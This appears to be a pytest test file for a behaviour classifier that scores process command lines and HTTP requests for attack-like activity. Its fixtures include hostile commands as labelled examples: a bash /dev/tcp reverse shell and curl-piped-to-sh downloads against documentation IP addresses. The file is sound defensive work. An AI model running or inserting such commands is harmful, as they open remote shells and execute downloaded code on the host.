"""The behaviour classifier: what it reads, that it is pure, that it says why, and that files come back whole."""

import random
import string

import numpy as np
import pyarrow as pa
import pytest

from lichen.core import ocsf
from lichen.core.batch import Batch, Stream
from lichen.core.errors import ModelError
from lichen.detect.classifiers.linear import BehaviourClassifier, LinearModel
from lichen.detect.classifiers.ngrams import BITS, ORDERS, grams, presence
from lichen.detect.classifiers.text import request_text, texts_of
from lichen.detect.classifiers.train import Examples, cross_fit, fit

START = 1_764_000_000_000_000


def exec_batch(commands: list[str], parent: str = "/usr/bin/python3.11", user: str | None = None) -> Batch:
    """Exec events on workload orders-1, a second apart."""
    n = len(commands)
    columns = {
        "time": pa.array([START + i * 1_000_000 for i in range(n)]).cast(ocsf.TIME),
        "class_uid": pa.array([ocsf.PROCESS_ACTIVITY] * n),
        "subject.workload": pa.array(["orders-1"] * n),
        "subject.user": pa.array([user] * n, type=pa.string()),
        "actor.process.file.path": pa.array([parent] * n),
        "process.file.path": pa.array(["/usr/bin/" + command.split()[0] for command in commands]),
        "process.cmd_line": pa.array(commands),
    }
    view = ocsf.view_of(columns, n)
    text = pa.array([command.encode() for command in commands])
    return Batch(Stream("0" * 32, "made here", "test"), "exec", text, np.arange(n, dtype=np.int64) * 100, view)


BENIGN = ["cat /etc/hostname", "ls -la /srv/app", "gzip -9 /var/log/app.log", "sort -u names.txt", "date +%s"] * 4
ATTACK = ["bash -c 'exec 5<>/dev/tcp/203.0.113.9/4444; cat <&5'", "curl -s http://203.0.113.9/x | sh"] * 2


@pytest.fixture(scope="module")
def examples() -> Examples:
    made = Examples()
    made.add_benign(exec_batch(BENIGN))
    attack = exec_batch(ATTACK, parent="/usr/bin/dash")
    made.add_attack(attack, {0: "s1", 1: "s2", 2: "s1", 3: "s2"}, {"s1": "reverse-shell", "s2": "download-and-run"})
    return made


@pytest.fixture(scope="module")
def model(examples: Examples) -> LinearModel:
    return fit(examples)


def slow_grams(texts: list[str]) -> list[tuple[int, int, int]]:
    """The same hash with Python's own integers, an n-gram at a time."""
    word = (1 << 64) - 1
    found = []
    for owner, text in enumerate(texts):
        raw = text.encode()
        seed = 1469598103934665603
        for byte in raw.split(b"\n", 1)[0][:16]:
            seed = ((seed ^ byte) * 1099511628211) & word
        for order in ORDERS:
            for place in range(len(raw) - order + 1):
                rolled = 0
                for byte in raw[place : place + order]:
                    rolled = (rolled * 0x9E3779B97F4A7C15 + byte + 1) & word
                mixed = ((rolled ^ seed) * 0xFF51AFD7ED558CCD + order) & word
                mixed ^= mixed >> 31
                found.append((owner, ((mixed * 0x9E3779B97F4A7C15) & word) >> (64 - BITS), place))
    return sorted(found)


def test_ngrams_equal_a_slow_reference() -> None:
    texts = ["exec\nabcabc", "", "http\nabcabé", "ab", "exec\nabc", "no second line"]
    who, what, where = grams(texts)
    assert sorted(zip(who.tolist(), what.tolist(), where.tolist(), strict=True)) == slow_grams(texts)


def test_presence_gives_every_text_length_one() -> None:
    who, _, value = presence(["aaaaaaaa", "exec\nsomething long enough to have many n-grams"])
    assert np.allclose(np.bincount(who, weights=value**2), 1.0)


def test_addresses_numbers_and_ids_are_masked_so_that_values_do_not_teach() -> None:
    batch = exec_batch(["nc 10.0.0.7 4444", "nc 203.0.113.9 53"])
    texts = texts_of(batch)
    assert texts is not None
    assert texts.dictionary.to_pylist() == ["exec\npython0.0>nc\nnc <ip> 0"]


def test_a_query_encoded_twice_reads_as_what_it_says() -> None:
    assert request_text("GET", "/q", "sku=7%253Bid").endswith("sku=7;id")


def test_an_attack_like_those_learned_scores_above_benign_commands(model: LinearModel) -> None:
    classifier = BehaviourClassifier(model, minutes=5)
    evidence, census, _ = classifier.detect(exec_batch(["curl -sk http://198.51.100.2/y | sh"], "/bin/dash"), {})
    quiet, _, _ = classifier.detect(exec_batch(["ls -la /srv/app"]), {})
    assert evidence[0].score_nats > 1 > 0 > quiet[0].score_nats
    assert "curl" in evidence[0].because or "| sh" in evidence[0].because
    assert census[0].seen == 1
    assert evidence[0].sample_event_ids


def test_detect_changes_nothing(model: LinearModel) -> None:
    classifier = BehaviourClassifier(model, minutes=5)
    batch = exec_batch([*BENIGN, *ATTACK])
    memory: dict[str, object] = {}
    once = classifier.detect(batch, memory)
    again = classifier.detect(batch, memory)
    assert once[0] == again[0]
    assert memory == {}
    assert classifier.version == BehaviourClassifier(model, minutes=5).version


def test_saved_and_loaded_weights_score_bit_for_bit(model: LinearModel, tmp_path) -> None:
    model.save(tmp_path)
    loaded = LinearModel.load(tmp_path)
    texts = ["exec\nsh>curl\ncurl -s http://<ip>/x | sh", "exec\nsh>ls\nls"]
    assert loaded.version == model.version
    assert (loaded.scores(texts) == model.scores(texts)).all()


def test_a_damaged_model_is_refused_with_a_remedy(model: LinearModel, tmp_path) -> None:
    model.save(tmp_path)
    blob = (tmp_path / "model.arrow").read_bytes()
    (tmp_path / "model.arrow").write_bytes(blob[: len(blob) // 2])
    with pytest.raises(ModelError, match="make models"):
        LinearModel.load(tmp_path)


def test_a_kind_left_out_teaches_nothing(examples: Examples) -> None:
    folds = cross_fit(examples, ["reverse-shell", "download-and-run"])
    text = texts_of(exec_batch([ATTACK[0]], "/usr/bin/dash"))
    assert text is not None
    shown = text.dictionary.to_pylist()
    assert folds["download-and-run"].scores(shown)[0] > folds["reverse-shell"].scores(shown)[0]


def test_hostile_text_neither_fails_nor_grows(model: LinearModel) -> None:
    noise = random.Random(1)
    commands = ["x " + "".join(noise.choices(string.printable, k=50_000)), "y \x00\ud7ff\u202e" + "é" * 100_000]
    evidence, _, _ = BehaviourClassifier(model, minutes=5).detect(exec_batch(commands), {})
    assert np.isfinite(evidence[0].score_nats)
    assert len(evidence[0].because) < 400


def test_a_request_speaks_about_its_user_as_well() -> None:
    n = 2
    view = ocsf.view_of(
        {
            "time": pa.array([START] * n).cast(ocsf.TIME),
            "class_uid": pa.array([ocsf.HTTP_ACTIVITY] * n),
            "subject.workload": pa.array(["gateway-1"] * n),
            "subject.user": pa.array(["alice", None]),
            "http_request.http_method": pa.array(["GET"] * n),
            "http_request.url.path": pa.array(["/api/orders/1"] * n),
        },
        n,
    )
    batch = Batch(
        Stream("1" * 32, "made here", "test"), "http", pa.array([b"a", b"b"]), np.arange(n, dtype=np.int64), view
    )
    blank = LinearModel(np.zeros(0, dtype=np.int64), np.zeros(0), 0.0)
    evidence, _, _ = BehaviourClassifier(blank, minutes=5).detect(batch, {})
    assert {str(row.subject): row.n_events for row in evidence} == {"workload gateway-1": 2, "user alice": 1}
